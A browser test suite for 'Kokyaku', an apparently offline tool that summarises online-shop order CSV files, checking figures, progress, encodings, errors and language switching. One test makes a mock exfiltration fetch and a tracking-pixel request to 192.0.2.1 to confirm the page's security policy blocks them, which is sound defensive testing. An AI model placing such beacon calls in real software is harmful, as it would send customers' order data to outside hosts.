// The built page in headless Chromium: the figures it shows equal the CLI's for the same files, it reads big
// files with a progress bar, it explains unreadable files, and it makes no request beyond its own files.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  DIST, servedApp, recordedPage, foreignRequests, cliSummary, generate, shownFigures, expectedFigures, waitForFiles, cliJson, openTab,
  download, ENGINE,
} from './harness.mjs';

const work = mkdtempSync(join(tmpdir(), 'kokyaku-browser-'));

// Served under a sub-path, as from a cart's admin folder: every URL of the page must be relative.
const app = servedApp('/shop/admin/kokyaku/');

test('the sample-data button shows the same summary as the CLI, with no foreign request', async () => {
  const { page, requests, errors, context } = await recordedPage(app.browser);
  await page.goto(app.server.url);
  await page.click('[data-testid=sample]');
  const shown = await shownFigures(page);
  const cli = cliSummary(join(DIST, 'sample/sample-orders-ec-cube.csv'));
  assert.deepEqual(shown, expectedFigures(cli));
  assert.ok(shown.customers > 500 && shown.rows_rejected > 0, 'the sample exercises rejects');
  assert.equal(await page.textContent('[data-testid=preset]'), 'EC-CUBE 4 受注CSV');
  assert.equal(await page.textContent('[data-testid=encoding]'), 'Shift_JIS (CP932)');
  assert.deepEqual(foreignRequests(requests, app.server.origin), []);
  assert.ok(requests.some((u) => u.endsWith('/shop/admin/kokyaku/sample/sample-orders-ec-cube.csv')));
  assert.deepEqual(errors, []);
  const ms = await page.getAttribute('[data-testid=elapsed]', 'data-ms');
  console.log(`# sample (5,000 orders) read and summarised in ${ms} ms`);
  await context.close();
});

test('chosen files, several carts at once, the rejects download, and a big file with progress', async () => {
  const { page, requests, errors, context } = await recordedPage(app.browser);
  const workers = [];
  page.on('worker', (w) => workers.push(w.url()));
  await page.goto(app.server.url);
  const shopify = generate('shopify', 2000, 3, work);
  await page.setInputFiles('[data-testid=file-input]', [shopify]);
  await waitForFiles(page, [shopify]);
  assert.deepEqual(await shownFigures(page), expectedFigures(cliSummary(shopify)));
  assert.equal(await page.textContent('[data-testid=preset]'), 'Shopify');

  const { bytes } = await download(page, '[data-testid=download-rejects]');
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
  const cli = cliSummary(shopify);
  const lines = bytes.toString('utf8').trim().split('\r\n');
  assert.equal(lines.length, 1 + cli.rows_rejected + cli.orders_rejected);

  // Two carts' exports at once are one shop's customers.
  const base = generate('base', 1500, 5, work);
  await page.setInputFiles('[data-testid=file-input]', [base, shopify]);
  await waitForFiles(page, [base, shopify]);
  assert.deepEqual(await shownFigures(page), expectedFigures(cliSummary(base, shopify)));

  // A file larger than several read chunks: the progress bar appears, the result still equals the CLI's.
  const big = generate('ec-cube', 30000, 11, work);
  await page.setInputFiles('[data-testid=file-input]', [big]);
  await page.waitForSelector('[data-testid=progress]');
  await waitForFiles(page, [big]);
  assert.deepEqual(await shownFigures(page), expectedFigures(cliSummary(big)));
  const ms = await page.getAttribute('[data-testid=elapsed]', 'data-ms');
  console.log(`# ec-cube 30,000 orders read in the page in ${ms} ms`);
  // The three reads used one reading worker, kept from one read to the next: started from a blob: URL (so
  // that the page's CSP binds it), it loaded the worker script once.
  assert.equal(workers.length, 1, workers.join(' '));
  assert.ok(workers[0].startsWith(`blob:${app.server.origin}/`), workers[0]);
  assert.equal(requests.filter((u) => u === new URL('worker.js', app.server.url).href).length, 1);

  assert.deepEqual(foreignRequests(requests, app.server.origin), []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('a big file is read by the worker the page started before it, while the page keeps painting its progress; without workers the page reads it alone', async () => {
  const big = generate('generic', 200000, 13, work); // ≈ 39 MB: ten 4 MiB slices
  const cli = expectedFigures(cliSummary(big));
  /** Reads `big` in a fresh page, counting its workers, painted frames and progress values while reading. */
  async function read(blockWorkers) {
    const { page, requests, errors, context } = await recordedPage(app.browser);
    if (blockWorkers) {
      await page.addInitScript(() => { window.Worker = function () { throw new Error('workers blocked'); }; });
    }
    const workers = [];
    page.on('worker', (w) => workers.push(w.url()));
    await page.goto(app.server.url);
    // The reading worker starts with the page (and practises), before any file is chosen.
    const started = blockWorkers ? null
      : workers[0] ?? await page.waitForEvent('worker', { timeout: 10000 }).then((w) => w.url());
    await page.evaluate(() => {
      window.seen = { frames: 0, progress: new Set() };
      const tick = () => {
        window.seen.frames += 1;
        const bar = document.querySelector('[data-testid=progress]');
        if (bar) window.seen.progress.add(bar.value);
        if (!document.querySelector('[data-testid=elapsed]')) requestAnimationFrame(tick);
      };
      requestAnimationFrame(tick);
    });
    await page.setInputFiles('[data-testid=file-input]', [big]);
    await waitForFiles(page, [big]);
    const seen = await page.evaluate(() => ({ frames: window.seen.frames, progress: window.seen.progress.size }));
    assert.deepEqual(await shownFigures(page), cli);
    assert.deepEqual(foreignRequests(requests, app.server.origin), []);
    assert.deepEqual(errors, []);
    await context.close();
    return { workers, started, ...seen };
  }
  const withWorker = await read(false);
  // One worker, started before the file was chosen, read it.
  assert.equal(withWorker.workers.length, 1, withWorker.workers.join(' '));
  assert.equal(withWorker.started, withWorker.workers[0]);
  // The page painted while the file was read, and the bar showed several stages of it.
  assert.ok(withWorker.frames >= 5, `${withWorker.frames} frames painted while reading`);
  assert.ok(withWorker.progress >= 3, `${withWorker.progress} progress values shown`);
  const alone = await read(true);
  console.log(`# 39 MB read with a worker: ${withWorker.frames} frames, ${withWorker.progress} progress values; `
    + `alone: ${alone.frames} frames, ${alone.progress} values`);
  assert.deepEqual(alone.workers, []);
  assert.ok(alone.progress >= 3, `${alone.progress} progress values shown without a worker`);
});

test('a chosen folder and a drop are read like chosen files', async () => {
  const { page, requests, context } = await recordedPage(app.browser);
  await page.goto(app.server.url);
  const folder = mkdtempSync(join(tmpdir(), 'kokyaku-folder-'));
  const a = generate('rakuten', 800, 21, folder);
  const b = generate('ecforce', 600, 22, folder);
  writeFileSync(join(folder, 'readme.txt'), 'not an export');
  // Playwright sets a folder on a file input in Chromium only; in Firefox the folder's files are chosen.
  if (ENGINE === 'chromium') await page.setInputFiles('[data-testid=folder-input]', folder);
  else await page.setInputFiles('[data-testid=file-input]', [a, b]);
  await waitForFiles(page, [b, a]); // by name: ecforce-… before rakuten-…
  assert.deepEqual(await shownFigures(page), expectedFigures(cliSummary(b, a)));

  // A drop of two files (built in the page, as a drag from the desktop would deliver them).
  const bytes = [...readFileSync(a)];
  const transfer = await page.evaluateHandle((data) => {
    const t = new DataTransfer();
    t.items.add(new File([new Uint8Array(data)], 'dropped.csv'));
    return t;
  }, bytes);
  await page.dispatchEvent('[data-testid=dropzone]', 'drop', { dataTransfer: transfer });
  await waitForFiles(page, ['dropped.csv']);
  assert.deepEqual(await shownFigures(page), expectedFigures(cliSummary(a)));
  assert.deepEqual(foreignRequests(requests, app.server.origin), []);
  await context.close();
});

test('an unreadable file gets a message naming the file and the reason; unknown columns go to the mapping screen', async () => {
  const { page, context } = await recordedPage(app.browser);
  await page.goto(app.server.url);
  const binary = join(work, 'orders-binary.csv');
  writeFileSync(binary, Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00, 0x14, 0x00]));
  await page.setInputFiles('[data-testid=file-input]', [binary]);
  // A zip archive (an .xlsx workbook) renamed .csv is named for what it is.
  assert.match(await page.textContent('[data-testid=error]'), /orders-binary\.csv: this is an Excel workbook \(\.xlsx\) or a zip archive, not CSV/);

  const bad = join(work, 'not-orders.csv');
  writeFileSync(bad, 'foo,bar\n1,2\n');
  await page.setInputFiles('[data-testid=file-input]', [bad]);
  await page.waitForSelector('[data-testid=mapping]');
  assert.equal(await page.textContent('[data-testid=mapping-file]'), 'not-orders.csv');
  assert.equal(await page.getAttribute('[data-testid=mapping-missing]', 'data-missing'), 'order_date,order_total,customer_id');
  assert.match(await page.textContent('[data-testid=mapping-missing]'), /Order date, Order total, Customer ID|注文日, 注文合計金額, 顧客ID/);
  await context.close();
});

test('a chosen encoding overrides detection, and a wrong choice is explained, not mojibake', async () => {
  const { page, context } = await recordedPage(app.browser);
  await page.goto(app.server.url);
  const sample = join(DIST, 'sample/sample-orders-ec-cube.csv');
  await page.selectOption('[data-testid=encoding-choice]', 'utf-8');
  await page.setInputFiles('[data-testid=file-input]', [sample]);
  assert.match(await page.textContent('[data-testid=error]'), /sample-orders-ec-cube\.csv: line \d+: the bytes at offset \d+ are not valid UTF-8/);
  await page.selectOption('[data-testid=encoding-choice]', 'shift-jis');
  await page.selectOption('[data-testid=preset-choice]', 'ec-cube');
  await page.setInputFiles('[data-testid=file-input]', [sample]);
  await waitForFiles(page, [sample]);
  assert.deepEqual(await shownFigures(page), expectedFigures(cliSummary(sample, '--encoding', 'shift-jis', '--preset', 'ec-cube')));
  await context.close();
});

test('the Content-Security-Policy stops any connection to another host', async () => {
  const { page, requests, blocked, context } = await recordedPage(app.browser);
  await page.goto(app.server.url);
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched = 'sent';
    try { await fetch('http://192.0.2.1/collect?data=orders'); } catch { fetched = 'blocked'; }
    const img = new Image();
    img.src = 'http://192.0.2.1/pixel.gif';
    await new Promise((ok) => setTimeout(ok, 200));
    return { fetched, violations };
  });
  assert.equal(outcome.fetched, 'blocked');
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome.violations));
  assert.ok(outcome.violations.includes('img-src'), JSON.stringify(outcome.violations));
  // The image was stopped inside the browser; nothing reached another host. Chromium reports the attempt as a
  // request its policy failed; Firefox checks the policy before a request exists, so it reports none.
  assert.deepEqual(foreignRequests(requests, app.server.origin), blocked);
  assert.deepEqual(blocked, ENGINE === 'chromium' ? ['http://192.0.2.1/pixel.gif'] : []);
  await context.close();
});

test('the language switch changes the texts and is remembered', async () => {
  const { page, context } = await recordedPage(app.browser);
  await page.goto(app.server.url);
  const before = await page.textContent('[data-testid=sample]');
  await page.click('[data-testid=lang]');
  const after = await page.textContent('[data-testid=sample]');
  assert.notEqual(before, after);
  assert.ok(['Try with sample data', 'サンプルデータで試す'].includes(after));
  await page.reload();
  assert.equal(await page.textContent('[data-testid=sample]'), after);
  await context.close();
});

test('a trap of the WebAssembly module (out of memory, say) is reported on the page, not left as a frozen tab', async () => {
  const { page, context } = await recordedPage(app.browser);
  await page.goto(app.server.url);
  await page.waitForSelector('[data-testid=sample]');
  await page.evaluate(() => setTimeout(() => { throw new WebAssembly.RuntimeError('unreachable'); }));
  await page.waitForSelector('[data-testid=trapped]');
  assert.match(await page.textContent('[data-testid=trapped]'), /^Kokyaku stopped \(unreachable\): the files may be too large/);
  // Other errors are not mistaken for it.
  await page.evaluate(() => setTimeout(() => { throw new TypeError('elsewhere'); }));
  assert.equal(await page.$$eval('[data-testid=trapped]', (e) => e.length), 1);
  await context.close();
});

test('orders dated in the future are kept and pointed out in the data-quality report', async () => {
  const { page, context } = await recordedPage(app.browser);
  await page.goto(app.server.url);
  if (await page.getAttribute('main', 'lang') !== 'en') await page.click('[data-testid=lang]');
  const file = join(work, 'future.csv');
  writeFileSync(file, 'order_id,order_date,email,order_total\n1,2024-01-05,a@example.jp,1000\n2,2098-03-01,b@example.jp,500\n');
  await page.setInputFiles('[data-testid=file-input]', [file]);
  await openTab(page, 'summary');
  await page.waitForSelector('[data-testid=quality]');
  assert.equal(await page.textContent('[data-testid=future-orders]'),
    '1 order is dated in the future, the latest on 2098-03-01. The default as-of date follows the latest order: ' +
    'check these dates or set the as-of date.');
  assert.equal((await shownFigures(page)).orders, 2, 'the order is kept');
  await context.close();
});
